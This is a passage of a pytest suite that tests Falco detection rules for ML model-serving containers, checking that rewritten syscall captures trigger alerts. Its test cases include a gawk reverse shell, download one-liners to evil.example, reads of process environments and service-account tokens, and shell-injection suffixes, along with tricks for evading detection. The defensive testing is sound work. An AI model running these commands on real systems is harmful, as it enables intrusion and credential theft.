    derived = derive(PYTHON_C1.capture, _open_instead(PYTHON_C1, "/tmp/evil/model.pt", path))
    assert bool(_opened(derived, PYTHON_C1, MODEL_LOAD, path)) is fires


@pytest.mark.parametrize(
    ("path", "fires"),
    [
        ("/tmp/evil/MODEL.PT", True),
        ("/tmp/evil/Model.Pt", True),
        ("/tmp/evil/model.SafeTensors", True),
        ("/tmp/evil/MODEL.PTH", True),
        ("/tmp/evil/model.pt2", True),
        ("/tmp/evil/weights.npz", True),
        ("/tmp/evil/embedding.npy", True),
        ("/tmp/evil/booster.ubj", True),
        ("/tmp/evil/classifier.sav", True),
        ("/tmp/evil/README.md", False),
        ("/tmp/evil/NOTES.TXT", False),  # upper case, no model extension
        ("/tmp/evil/model.ptx", False),
    ],
)
def test_model_extensions_in_any_case(derive: Derive, path: str, fires: bool) -> None:
    derived = derive(PYTHON_C1.capture, _open_instead(PYTHON_C1, "/tmp/evil/model.pt", path))
    assert bool(_opened(derived, PYTHON_C1, MODEL_LOAD, path)) is fires


# 8. Finding 3: a download tool under another name; Falco resolves proc.exepath to the tool.


@pytest.mark.parametrize(
    ("path", "argv", "name"),
    [
        ("/usr/bin/curl", ["/app/c", "-o", "/tmp/t", "http://evil.example/t"], "c"),
        ("/usr/bin/wget", ["/tmp/.w", "http://evil.example/t"], ".w"),
        ("/usr/bin/git", ["/app/g", "clone", "https://evil.example/repo"], "g"),
    ],
)
def test_a_download_tool_under_another_name_is_a_download(
    derive: Derive, path: str, argv: list[str], name: str
) -> None:
    derived = derive(CURL_F2.capture, CURL_F2.exec(path=path, argv=argv, name=name))
    [event] = derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")
    assert (event["proc.name"], event["proc.exepath"]) == (name, path)


# 9. Finding 5: another process's environment.


@pytest.mark.parametrize(
    ("path", "fires"),
    [
        ("/proc/1/environ", True),  # the server's: HF_TOKEN, the AWS_* keys of KServe's storage
        ("/proc/1/task/1/environ", True),
        ("/proc/self/root/proc/1/environ", True),
        ("/proc/self/environ", False),  # its own, which it has anyway
        ("/proc/thread-self/environ", False),
    ],
)
def test_another_process_environment_is_a_credential(derive: Derive, path: str, fires: bool) -> None:
    derived = derive(CAT_H1.capture, _open(path))
    assert bool(_opened(derived, CAT_H1, CREDENTIALS, path)) is fires


# 10. Finding 7: a program run from a model dir (emptyDir and volume mounts are not the upper layer).


@pytest.mark.parametrize(
    ("path", "fires"),
    [
        ("/mnt/models/tool", True),
        ("/data/.x", True),
        ("/root/.cache/huggingface/x", True),
        ("/models/resnet/1/run", True),
        ("/usr/local/bin/tritonserver", False),  # from the image (its upper-layer flag is for Falco)
    ],
)
def test_a_program_run_from_a_model_dir_is_drift(derive: Derive, path: str, fires: bool) -> None:
    derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=[path, "sgcap-g2"]))
    assert bool(derived.fired(DRIFT, f"{EXECVE} and {DROPPED_G2.thread}")) is fires


# 11. Finding 8: TCP Fast Open connects with sendto(MSG_FASTOPEN) and no connect.


def test_tcp_fast_open_is_egress(derive: Derive) -> None:
    """The recorded UDP datagram (e2) sent on a TCP socket: what sendto(MSG_FASTOPEN) on a socket that
    was never connected records. Its addresses come from the call, before the kernel bound the socket:
    client port 0."""
    _, python = PYTHON_E2.exec_events()
    socket = [e for e in _events(PYTHON_E2.capture) if e.tid == python.tid and e.type == se.SOCKET_ENTER][-1]
    stream = struct.pack("<I", 0o2000000 | 1)  # SOCK_STREAM | SOCK_CLOEXEC
    derived = derive(PYTHON_E2.capture, {socket.index: se.replaced(socket, {se.SOCKET_ENTER_TYPE: stream})})
    [sent] = derived.events(f"evt.type = sendto and evt.dir = < and {PYTHON_E2.thread}")
    assert sent["fd.name"].endswith(":0->100.64.10.2:53")
    assert [e["evt.type"] for e in derived.fired(EGRESS, PYTHON_E2.thread)] == ["sendto"]


def test_sends_on_a_connected_tcp_socket_are_not_tested_again(derive: Derive) -> None:
    """e1 connects to 100.64.10.2:443 and sends: the connect alerts, its send (a real client port)
    does not alert a second time."""
    derived = derive(PYTHON_E1.capture, {})
    assert [
        e["evt.type"]
        for e in derived.events(
            f"evt.type in (connect, sendto) and evt.dir = < and {PYTHON_E1.thread} and fd.type = ipv4"
        )
    ] == ["connect", "sendto"]
    assert [e["evt.type"] for e in derived.fired(EGRESS, PYTHON_E1.thread)] == ["connect"]


# 12. Finding 9: gawk's network special files.

GAWK_REVERSE_SHELL = (
    'BEGIN {s="/inet/tcp/0/203.0.113.9/4444"; while((s |& getline c)>0)'
    "{while((c |& getline l)>0) print l |& s; close(c)}}"
)


@pytest.mark.parametrize(
    ("argv", "fires"),
    [
        (["gawk", GAWK_REVERSE_SHELL], True),
        (["awk", GAWK_REVERSE_SHELL.replace("/inet/tcp/", "/inet6/tcp/")], True),
        (["gawk", 'BEGIN {print "x" |& "/inet/udp/0/203.0.113.9/53"}'], True),
        (["gawk", "-F:", "{print $1}", "/etc/passwd"], False),
    ],
)
def test_gawk_network_files_are_a_reverse_shell(derive: Derive, argv: list[str], fires: bool) -> None:
    derived = derive(PYTHON_B1.capture, PYTHON_B1.exec(path=f"/usr/bin/{argv[0]}", argv=argv, name=argv[0]))
    assert bool(derived.fired(REVERSE_SHELL, f"{EXECVE} and {PYTHON_B1.thread}")) is fires


# 13. Finding 10: a shell that is PID 1 is excepted only while the container starts.


def test_a_shell_as_pid_1_after_the_start_is_a_shell(derive: Derive) -> None:
    """The recorded `sh -c` as the PID 1 of its namespace (what a server that execs /bin/sh after code
    execution looks like). The captures are host processes, with no container start time: the
    exception's age test (container.duration, which 2022 libsinsp lacks) does not hold."""
    replacements = dict(SH_A1.exec())
    _, exit_ = SH_A1.exec_events()
    [clone] = [
        e
        for e in _events(SH_A1.capture)
        if e.tid == exit_.tid
        and e.type in se.CLONE_EXITS
        and struct.unpack("<q", e.params[se.CLONE_EXIT_RES])[0] == 0
    ]
    pid_1 = struct.pack("<q", 1)
    replacements[clone.index] = se.replaced(clone, {se.CLONE_EXIT_VTID: pid_1, se.CLONE_EXIT_VPID: pid_1})
    derived = derive(SH_A1.capture, replacements)
    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
    assert event["proc.name"] == "sh"
    assert derived.events(f"{EXECVE} and {SH_A1.thread} and proc.vpid = 1")
    assert derived.fired(SHELL, f"{EXECVE} and {SH_A1.thread}")


def test_the_entrypoint_exception_holds_only_while_the_container_starts() -> None:
    ruleset = load_paths([str(PACK)])
    rule = ruleset.rules[SHELL]
    [entrypoint] = [e for e in rule.exceptions if e.name == "container_entrypoint"]
    assert (entrypoint.fields, entrypoint.comps, entrypoint.values) == (
        ("proc.vpid", "container.duration", "proc.tty"),
        ("=", "<", "="),
        (("1", "30000000000", "0"),),
    )


# -- Review 71 -------------------------------------------------------------------------------------
# Each finding is proven the same way: the nearest recorded action, rewritten the way the attacker
# (or the serving image) changes it, read by the real libsinsp.

SH_D4 = Recorded("sg-d-tamper.scap", "sgcap-d4")  # sh -c 'ln -s ...; : sgcap-d4', the parent of ln


# Finding 1: a loopback URL inside a word that has no scheme is host/path to curl and wget: the
# exception for local requests needs the word to start with the scheme and the loopback host.


@pytest.mark.parametrize(
    "argv",
    [
        # Hosts without the letters the macro rejects before a "://" for other reasons (curl's
        # -x, -K, -L; wget's -i, -e, -B): evil.com, bad.org.
        ["curl", "-s", "evil.com/a://127.0.0.1:1/"],
        ["curl", "-so/tmp/t", "evil.com/a://localhost:1/"],
        ["curl", "-s", "evil.com/http://127.0.0.1:8088/"],
        ["curl", "evil.com/q?https://[::1]:8000/"],
        ["wget", "-qO-", "bad.org/q://127.0.0.1:1/"],
        ["wget", "-qO-", "bad.org/q://[::1]:1/"],
        ["busybox", "wget", "-qO-", "bad.org/q://127.0.0.1:1/"],
        ["curl", "-s", "http://127.0.0.1.evil.com/"],  # a host that only starts like loopback
        ["curl", "-s", "http://0.0.0.0.evil.com/"],
    ],
    ids=" ".join,
)
def test_a_loopback_url_without_its_scheme_first_is_a_download(derive: Derive, argv: list[str]) -> None:
    derived = derive(CURL_F2.capture, CURL_F2.exec(path=_exepath(argv[0]), argv=argv, name=argv[0]))
    [event] = derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")
    assert event["proc.args"] == " ".join(argv[1:])


@pytest.mark.parametrize(
    "argv",
    [
        ["curl", "-s", "https://127.0.0.1:8443/v2/health/ready"],
        ["curl", "-s", "http://127.0.0.1/health"],
        ["curl", "http://localhost:8080/"],
        ["wget", "-qO-", "https://localhost/health"],
        ["busybox", "wget", "-qO-", "http://[::1]:8080/health"],
        ["curl", "-sf", "https://[::1]/v2/health/ready"],
        ["curl", "-sf", "http://0.0.0.0:8000/health"],  # 0.0.0.0: this host, to connect
    ],
    ids=" ".join,
)
def test_a_loopback_url_with_its_scheme_first_is_a_local_request(derive: Derive, argv: list[str]) -> None:
    derived = derive(CURL_F2.capture, CURL_F2.exec(path=_exepath(argv[0]), argv=argv, name=argv[0]))
    assert derived.events(f"{EXECVE} and {CURL_F2.thread}")
    assert derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}") == []


# Finding 2: libsinsp resolves '..' textually; the kernel follows a symlink first (/var/run is a link
# to /run in Debian and Ubuntu images, so /var/run/.. is /). Paths compared as written are not
# normalised at all.


@pytest.mark.parametrize(
    ("path", "shown", "fires"),
    [
        (
            "/var/run/../var/run/secrets/kubernetes.io/serviceaccount/token",
            "/var/var/run/secrets/kubernetes.io/serviceaccount/token",
            True,
        ),
        (
            "/var/run/../var/run/secrets/kubernetes.io/serviceaccount/..data/token",
            "/var/var/run/secrets/kubernetes.io/serviceaccount/..data/token",
            True,
        ),
        (
            "/var/run/../var/run/secrets/eks.amazonaws.com/serviceaccount/token",
            "/var/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
            True,
        ),
        (
            "/var/run/../var/run/secrets/azure/tokens/azure-identity-token",
            "/var/var/run/secrets/azure/tokens/azure-identity-token",
            True,
        ),
        (
            "/var/run/../var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
            "/var/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
            False,
        ),
        (
            "/var/run/../var/run/secrets/kubernetes.io/serviceaccount-reader/token",
            "/var/var/run/secrets/kubernetes.io/serviceaccount-reader/token",
            False,
        ),
    ],
)
def test_the_token_through_a_symlink_and_dot_dot_is_a_credential(
    derive: Derive, path: str, shown: str, fires: bool
) -> None:
    derived = derive(CAT_H1.capture, _open(path))
    assert bool(_opened(derived, CAT_H1, CREDENTIALS, shown)) is fires


@pytest.mark.parametrize(
    ("path", "shown", "fires"),
    [
        ("/var/run/../models/resnet/model.pt", "/var/models/resnet/model.pt", True),
        ("/var/run/../mnt/models/resnet/config.pbtxt", "/var/mnt/models/resnet/config.pbtxt", True),
        ("/var/run/..//models/resnet/model.pt", "/var/models/resnet/model.pt", True),
        ("/var/run/../data/model.safetensors", "/var/data/model.safetensors", True),
        ("/var/run/../opt/ml/model/model.joblib", "/var/opt/ml/model/model.joblib", True),
        ("/var/run/../weights/llama.gguf", "/var/weights/llama.gguf", True),  # a model file
        # A '..' elsewhere, nothing of the model dirs: a log, a cache.
        ("/var/run/../tmp/sgcap-serve.log", "/var/tmp/sgcap-serve.log", False),
        ("/app/bin/../logs/serve.log", "/app/logs/serve.log", False),
        ("/app/./cache/tokens.json", "/app/cache/tokens.json", False),
        # '.' and '//' do not change where an open leads: fd.name resolves them exactly.
        ("/home/model-server/./logs/ts_log.log", "/home/model-server/logs/ts_log.log", False),
        ("/srv//data-export/out.json", "/srv/data-export/out.json", False),
    ],
)
def test_a_write_through_dot_dot_into_a_model_dir_is_tampering(
    derive: Derive, path: str, shown: str, fires: bool
) -> None:
    derived = derive(PYTHON_D1.capture, _open_instead(PYTHON_D1, "/models/resnet/model.pt", path))
    assert bool(_opened(derived, PYTHON_D1, TAMPER, shown)) is fires


@pytest.mark.parametrize(
    ("newpath", "fires"),
    [
        ("/var/run/../models/resnet/model.pt", True),
        ("/var/run/../mnt/models/model.safetensors", True),
        ("/var/run/../tmp/evil.bin", False),
    ],
)
def test_a_rename_through_dot_dot_into_a_model_dir_is_tampering(
    derive: Derive, newpath: str, fires: bool
) -> None:
    assert _rename_fires(derive, "/tmp/evil.bin", newpath) is fires


@pytest.mark.parametrize(
    ("target", "link", "fires"),
    [
        ("/tmp/../models", "/tmp/md", True),
        ("/var/run/../models/resnet/model.pt", "/tmp/m", True),
        ("/./models/resnet/model.pt", "/tmp/m", True),
        ("/mnt/./models", "/dev/shm/.m", True),
        ("/proc/self/root//models", "/tmp/md", True),
        ("../models/resnet/model.pt", "/tmp/m", True),  # relative, with '..'
        ("/tmp/../tmp/evil/model.pt", "/tmp/m", False),  # nothing of the model dirs
        ("/var/run/../run/lock", "/tmp/l", False),
    ],
)
def test_a_link_to_a_model_dir_written_with_dot_segments_is_tampering(
    derive: Derive, target: str, link: str, fires: bool
) -> None:
    assert _symlink_fires(derive, target, link) is fires


# Finding 3: Triton's Python backend starts its stub through a shell, per model instance: the check
# system("<stub>> /dev/null 2>&1") and execvp("bash", {"bash", "-c", " exec <stub> ..."}), both with
# the parent tritonserver. Exactly those are excepted; nothing can be chained to them.

TRITON_STUB = "/opt/tritonserver/backends/python/triton_python_backend_stub"
TRITON_CHECK = f"{TRITON_STUB}> /dev/null 2>&1"
TRITON_START = (
    f" exec {TRITON_STUB} /models/resnet/1/model.py triton_python_backend_shm_region_1 1048576 1048576"
    " 57 /opt/tritonserver/backends/python 336 resnet_0_0 /models/resnet"
)


def _triton(*, parent: str, path: str, argv: list[str]) -> Replacements:
    """`sh -c mv ...` becomes the server (``parent``), its child mv the shell it starts."""
    replacements = dict(
        SH_D2.exec(
            path=f"/opt/tritonserver/bin/{parent}", argv=[parent, "--model-repository=/models"], name=parent
        )
    )
    replacements.update(MV_D2.exec(path=path, argv=argv, name=argv[0]))
    return replacements


@pytest.mark.parametrize(
    ("parent", "path", "argv", "fires"),
    [
        ("tritonserver", "/usr/bin/dash", ["sh", "-c", TRITON_CHECK], False),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START], False),
        # Not the server, or not the image's /bin/sh, or more than the stub.
        ("python3", "/usr/bin/dash", ["sh", "-c", TRITON_CHECK], True),
        ("tritonserver", "/usr/bin/bash", ["sh", "-c", TRITON_CHECK], True),  # bash under the name sh
        ("tritonserver", "/usr/bin/dash", ["sh", "-c", TRITON_CHECK + "; id"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + "; id"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " && id"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " | sh"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " $(id)"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " `id`"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + "\nid"], True),
        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " >/tmp/x"], True),
        (
            "tritonserver",
            "/usr/bin/bash",
            ["bash", "-c", TRITON_START.replace("/opt/tritonserver", "/tmp")],
            True,
        ),
        # A Python execution environment (EXECUTION_ENV_PATH): not excepted (rules/README.md).
        (
            "tritonserver",
            "/usr/bin/bash",
            [
                "bash",
                "-c",
                "source /tmp/env/bin/activate && exec env LD_LIBRARY_PATH=/tmp/env/lib:$LD_LIBRARY_PATH"
                + TRITON_START.removeprefix(" exec"),
            ],
            True,
        ),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 20 else None,
)
def test_triton_starting_its_python_backend_stub_is_not_a_shell(
    derive: Derive, parent: str, path: str, argv: list[str], fires: bool
) -> None:
    derived = derive(MV_D2.capture, _triton(parent=parent, path=path, argv=argv))
    [event] = derived.events(f"{EXECVE} and {MV_D2.thread}")
    assert (event["proc.name"], event["proc.args"]) == (argv[0], " ".join(argv[1:]))
    assert bool(derived.fired(SHELL, f"{EXECVE} and {MV_D2.thread}")) is fires


# Finding 4: ICMP (ping sockets) and raw sockets send without connect.


@pytest.mark.parametrize(
    ("sock_type", "protocol", "l4proto"),
    [(2, 1, "icmp"), (3, 1, "raw"), (3, 255, "raw")],  # SOCK_DGRAM/ICMP, SOCK_RAW/ICMP, SOCK_RAW/RAW
)
def test_icmp_and_raw_sends_are_egress(derive: Derive, sock_type: int, protocol: int, l4proto: str) -> None:
    """The recorded UDP datagram (e2) sent on a ping or raw socket instead."""
    _, python = PYTHON_E2.exec_events()
    socket = [e for e in _events(PYTHON_E2.capture) if e.tid == python.tid and e.type == se.SOCKET_ENTER][-1]
    changes = {
        se.SOCKET_ENTER_TYPE: struct.pack("<I", sock_type),
        se.SOCKET_ENTER_PROTO: struct.pack("<I", protocol),
    }
    derived = derive(PYTHON_E2.capture, {socket.index: se.replaced(socket, changes)})
    sent = f"evt.type = sendto and evt.dir = < and {PYTHON_E2.thread}"
    [event] = derived.sysdig.read_capture(str(derived.path), sent, [*FIELDS, "fd.l4proto"])
    assert (event["fd.l4proto"], event["fd.sip"]) == (l4proto, "100.64.10.2")
    assert [e["evt.type"] for e in derived.fired(EGRESS, PYTHON_E2.thread)] == ["sendto"]


@pytest.mark.parametrize(
    ("address", "port", "fires"),
    [
        ("8.8.8.8", 80, False),  # vLLM's get_ip at every start
        # Ray's node address without --node-ip-address: not excepted, a write(2) on the connected
        # socket is not seen (a DNS tunnel through a public resolver; review-rules finding 6).
        ("8.8.8.8", 53, True),
        ("8.8.4.4", 80, True),
        ("8.8.8.8", 443, True),
    ],
)
def test_a_udp_connect_that_looks_up_the_pods_own_address_is_not_egress(
    derive: Derive, address: str, port: int, fires: bool
) -> None:
    """A UDP socket connected to a public address sends nothing: vLLM and Ray name their own
    address that way. The recorded TCP connect (e1) made on a UDP socket to those addresses."""
    _, python = PYTHON_E1.exec_events()
    socket = [
        e
        for e in _events(PYTHON_E1.capture)
        if e.tid == python.tid and e.type == se.SOCKET_ENTER and e.params[0][:1] == b"\x02"
    ][-1]
    changes = {se.SOCKET_ENTER_TYPE: struct.pack("<I", 2), se.SOCKET_ENTER_PROTO: struct.pack("<I", 0)}
    derived = derive(
        PYTHON_E1.capture, {socket.index: se.replaced(socket, changes), **_tcp_to(address, port)}
    )
    connected = f"evt.type = connect and evt.dir = < and {PYTHON_E1.thread} and fd.type = ipv4"
    [event] = derived.sysdig.read_capture(str(derived.path), connected, [*FIELDS, "fd.l4proto", "fd.sport"])
    assert (event["fd.l4proto"], event["fd.sip"], event["fd.sport"]) == ("udp", address, port)
    fired = [e["evt.type"] for e in derived.fired(EGRESS, PYTHON_E1.thread)]
    assert ("connect" in fired) is fires
    # What the recorded thread sent after its connect is a datagram now: tested as any, and alerted.
    assert "sendto" in fired


def test_a_datagram_sent_to_the_own_address_lookups_destination_is_egress(derive: Derive) -> None:
    """Only the connect is excepted: DNS sent to 8.8.8.8 is tested as any datagram."""
    derived = derive(PYTHON_E2.capture, _udp_to("8.8.8.8", 53))
    assert [e["evt.type"] for e in derived.fired(EGRESS, PYTHON_E2.thread)] == ["sendto"]


def test_icmp_to_an_allowed_network_is_not_egress(derive: Derive) -> None:
    _, python = PYTHON_E2.exec_events()
    socket = [e for e in _events(PYTHON_E2.capture) if e.tid == python.tid and e.type == se.SOCKET_ENTER][-1]
    changes = {se.SOCKET_ENTER_TYPE: struct.pack("<I", 2), se.SOCKET_ENTER_PROTO: struct.pack("<I", 1)}
    replacements = {socket.index: se.replaced(socket, changes), **_udp_to("10.1.2.3", 0)}
    derived = derive(PYTHON_E2.capture, replacements)
    [event] = derived.events(f"evt.type = sendto and evt.dir = < and {PYTHON_E2.thread}")
    assert event["fd.sip"] == "10.1.2.3"
    assert derived.fired(EGRESS, PYTHON_E2.thread) == []


# Finding 5: a script in a writable dir run by an interpreter, or by its shebang (the executable Falco
# reports is the interpreter's, the process is named after the script).


@pytest.mark.parametrize(
    ("path", "argv", "name", "fires"),
    [
        ("/usr/bin/python3.11", ["/usr/bin/python3", "/tmp/x.py", "a"], "x.py", True),  # #!/usr/bin/python3
        ("/usr/bin/python3.11", ["python3", "/tmp/x.py"], "python3", True),
        ("/usr/local/bin/python3.11", ["python", "/dev/shm/.x"], "python", True),
        ("/usr/bin/dash", ["/bin/sh", "/dev/shm/.x.sh"], ".x.sh", True),
        ("/usr/bin/bash", ["bash", "/var/tmp/run.sh"], "bash", True),
        ("/usr/bin/perl", ["/usr/bin/perl", "/tmp/x.pl"], "x.pl", True),
        ("/usr/bin/node", ["node", "/tmp/x.js"], "node", True),
        # Scripts of the image, options before the script, programs that are no interpreter.
        ("/usr/bin/python3.11", ["python3", "/app/serve.py"], "python3", False),
        (
            "/usr/bin/python3.11",
            ["/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"],
            "gunicorn",
            False,
        ),
        ("/usr/bin/cat", ["cat", "/tmp/x.py"], "cat", False),
        ("/usr/bin/gawk", ["awk", "/tmp/ {print $1}"], "awk", False),
        # The recordings' script directory, declared in the captures' override
        # (serving_guard_allowed_script_dirs).
        ("/usr/bin/python3.11", ["python3", "/tmp/sgscen/x.py"], "python3", False),
    ],
)
def test_a_script_run_from_a_writable_dir_is_drift(
    derive: Derive, path: str, argv: list[str], name: str, fires: bool
) -> None:
    derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {DROPPED_G2.thread}")
    assert (event["proc.exepath"], event["proc.args"]) == (path, " ".join(argv[1:]))
    assert bool(derived.fired(DRIFT, f"{EXECVE} and {DROPPED_G2.thread}")) is fires


# Finding 6: busybox drops a leading '-' and any directory from argv[0] (and any directory from the
# applet it is given as its first argument).


@pytest.mark.parametrize(
    ("argv", "name", "fires"),
    [
        (["-sh", "-c", "id"], "busybox", True),
        (["./sh", "-c", "id"], "busybox", True),
        (["/tmp/x/ash", "-c", "id"], "busybox", True),
        (["-/bin/sh", "-c", "id"], "busybox", True),
        (["-hush"], "b", True),  # a link to busybox under another name
        (["busybox", "/bin/sh", "-c", "id"], "busybox", True),
        (["busybox", "./ash", "-c", "id"], "busybox", True),
        (["busybox", "/tmp/bash"], "busybox", True),
        (["./shred", "-u", "/tmp/x"], "busybox", False),
        (["-ls", "-l", "/tmp"], "busybox", False),  # a login-style name of another applet
        (["busybox", "ls", "/bin/sh"], "busybox", False),
        (["busybox", "wget", "http://evil.example/sh"], "busybox", False),  # a download, not a shell
    ],
)
def test_busybox_names_its_shell_applet_many_ways(
    derive: Derive, argv: list[str], name: str, fires: bool
) -> None:
    derived = derive(SH_A1.capture, SH_A1.exec(path="/usr/bin/busybox", argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
    assert (event["proc.exe"], event["proc.name"]) == (argv[0], name)
    assert bool(derived.fired(SHELL, f"{EXECVE} and {SH_A1.thread}")) is fires


# Finding 7: busybox's download applets chosen by argv[0] (exec -a wget /bin/busybox URL).


@pytest.mark.parametrize(
    ("argv", "name", "fires"),
    [
        (["wget", "-O/tmp/x", "http://evil.example/x"], "busybox", True),
        (["-wget", "-O/tmp/x", "http://evil.example/x"], "busybox", True),
        (["/tmp/x/wget", "http://evil.example/x"], "busybox", True),
        (["tftp", "-g", "-r", "x", "evil.example"], "busybox", True),
        (["/usr/bin/ftpget", "evil.example", "x"], "busybox", True),
        (["wget", "http://evil.example/x"], "b", True),  # a link to busybox under another name
        (["busybox", "/usr/bin/wget", "http://evil.example/x"], "busybox", True),
        (["sha256sum", "/models/model.pt"], "busybox", False),
        (["busybox", "ls", "/tmp/wget"], "busybox", False),
    ],
)
def test_busybox_download_applets_by_argv0_are_downloads(
    derive: Derive, argv: list[str], name: str, fires: bool
) -> None:
    derived = derive(CURL_F2.capture, CURL_F2.exec(path="/usr/bin/busybox", argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {CURL_F2.thread}")
    assert (event["proc.exe"], event["proc.name"]) == (argv[0], name)
    assert bool(derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")) is fires


# Finding 8: KServe's modelcar sidecar runs `sh -c "ln -sf /proc/$$/root/models /mnt/models && sleep
# infinity"`: the shell and the link it makes are excepted, exactly.

MODELCAR = "ln -sf /proc/$$/root/models /mnt/models && sleep infinity"
MODELCAR_OLD = "ln -sf /proc/$$/root/models /mnt/ && sleep infinity"


def _modelcar(command: str, ln_args: list[str], target: str) -> Replacements:
    """d4's `sh -c 'ln -s ...'` runs ``command``, its ln ``ln_args`` and links /mnt/models to ``target``."""
    replacements = dict(SH_D4.exec(argv=["sh", "-c", command]))
    replacements.update(LN_D4.exec(argv=["ln", *ln_args]))
    replacements.update(_symlink(target, "/mnt/models"))
    return replacements


@pytest.mark.parametrize(
    ("command", "ln_args", "target", "fires"),
    [
        (MODELCAR, ["-sf", "/proc/57/root/models", "/mnt/models"], "/proc/57/root/models", False),
        (MODELCAR_OLD, ["-sf", "/proc/57/root/models", "/mnt/"], "/proc/57/root/models", False),
        # Another command line, or another link under the modelcar's command line.
        (MODELCAR + "; id", ["-sf", "/proc/57/root/models", "/mnt/models"], "/proc/57/root/models", True),
        (
            MODELCAR.replace("&&", ";"),
            ["-sf", "/proc/57/root/models", "/mnt/models"],
            "/proc/57/root/models",
            True,
        ),
        (MODELCAR, ["-sf", "/tmp/evil/models", "/mnt/models"], "/tmp/evil/models", True),
    ],
)
def test_kserve_modelcar_linking_its_models_is_quiet(
    derive: Derive, command: str, ln_args: list[str], target: str, fires: bool
) -> None:
    derived = derive(LN_D4.capture, _modelcar(command, ln_args, target))
    made = f"evt.type = symlinkat and evt.dir = < and {LN_D4.thread}"
    [link] = derived.sysdig.read_capture(
        str(derived.path), made, ["evt.arg.target", "evt.arg.linkpath", "proc.pcmdline"]
    )
    assert (link["evt.arg.target"], link["evt.arg.linkpath"]) == (target, "/mnt/models")
    assert link["proc.pcmdline"] == f"sh -c {command}"
    assert bool(derived.fired(TAMPER, made)) is fires
    shell_fired = derived.fired(SHELL, f"{EXECVE} and {SH_D4.thread}")
    assert bool(shell_fired) is (command not in (MODELCAR, MODELCAR_OLD))  # the modelcar's exact command


# Finding 9: interpreter one-liners that download.


@pytest.mark.parametrize(
    ("path", "argv", "fires"),
    [
        (
            "/usr/bin/python3.11",
            [
                "python3",
                "-c",
                "import urllib.request as u; u.urlretrieve('https://evil.example/m.pt', '/tmp/m.pt')",
            ],
            True,
        ),
        (
            "/usr/bin/python3.11",
            [
                "python3",
                "-c",
                "import requests; open('/tmp/t','wb').write(requests.get('https://evil.example/t').content)",
            ],
            True,
        ),
        (
            "/usr/bin/python3.11",
            [
                "python3",
                "-c",
                "from huggingface_hub import hf_hub_download; hf_hub_download('evil/m', 'model.safetensors')",
            ],
            True,
        ),
        (
            "/usr/bin/perl",
            ["perl", "-MLWP::Simple", "-e", "getstore('http://evil.example/t', '/tmp/t')"],
            True,
        ),
        (
            "/usr/bin/perl",
            ["perl", "-e", "use HTTP::Tiny; HTTP::Tiny->new->mirror('http://evil.example/t', '/tmp/t')"],
            True,
        ),
        (
            "/usr/bin/ruby3.1",
            ["ruby", "-ropen-uri", "-e", "IO.copy_stream(URI.open('http://evil.example/t'), '/tmp/t')"],
            True,
        ),
        ("/usr/bin/php8.2", ["php", "-r", "copy('http://evil.example/t', '/tmp/t');"], True),
        (
            "/usr/bin/node",
            ["node", "-e", "fetch('http://evil.example/t').then(r => r.text()).then(console.log)"],
            True,
        ),
        # python under another name (a link): Falco resolves the executable.
        (
            "/usr/bin/python3.11",
            ["/tmp/x", "-c", "import urllib.request; urllib.request.urlopen('http://evil.example/')"],
            True,
        ),
        # One URL on the pod's own loopback: an entrypoint waiting for its server, a local check.
        (
            "/usr/bin/python3.11",
            [
                "python3",
                "-c",
                "import urllib.request; urllib.request.urlopen('http://localhost:8000/v2/health/ready')",
            ],
            False,
        ),
        (
            "/usr/bin/python3.11",
            [
                "python3",
                "-c",
                "import requests; requests.get('http://127.0.0.1:8080/ping').raise_for_status()",
            ],
            False,
        ),
        (
            "/usr/bin/python3.11",
            ["python3", "-c", "import urllib.request as u; u.urlopen('http://0.0.0.0:8000/health')"],
            False,
        ),
        # ... but not with a second URL, nor a loopback URL that is no URL's start.
        (
            "/usr/bin/python3.11",
            [
                "python3",
                "-c",
                "import urllib.request as u; u.urlopen('http://evil.example/?h=http://localhost:1/')",
            ],
            True,
        ),
        (
            "/usr/bin/python3.11",
            ["python3", "-c", "import urllib.request as u; u.urlopen('http://localhost.evil.example/t')"],
            True,
        ),
        # One-liners that fetch nothing, and programs that are no one-liner.
        ("/usr/bin/python3.11", ["python3", "-c", "import json; print(json.dumps({'ok': True}))"], False),
        ("/usr/bin/python3.11", ["python3", "-c", "open('/models/resnet/model.pt','rb').read()"], False),
        ("/usr/bin/python3.11", ["python3", "-u", "/app/serve.py", "--port", "8000"], False),
        ("/usr/bin/perl", ["perl", "-e", "print 1"], False),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 20 else None,
)
def test_interpreter_one_liners_that_download_are_downloads(
    derive: Derive, path: str, argv: list[str], fires: bool
) -> None:
    name = Path(argv[0]).name
    derived = derive(CURL_F2.capture, CURL_F2.exec(path=path, argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {CURL_F2.thread}")
    assert (event["proc.name"], event["proc.args"]) == (name, " ".join(argv[1:]))
    assert bool(derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")) is fires


def test_a_reverse_shell_one_liner_in_python_under_another_name_is_a_reverse_shell(derive: Derive) -> None:
    _, python = PYTHON_B1.exec_events()
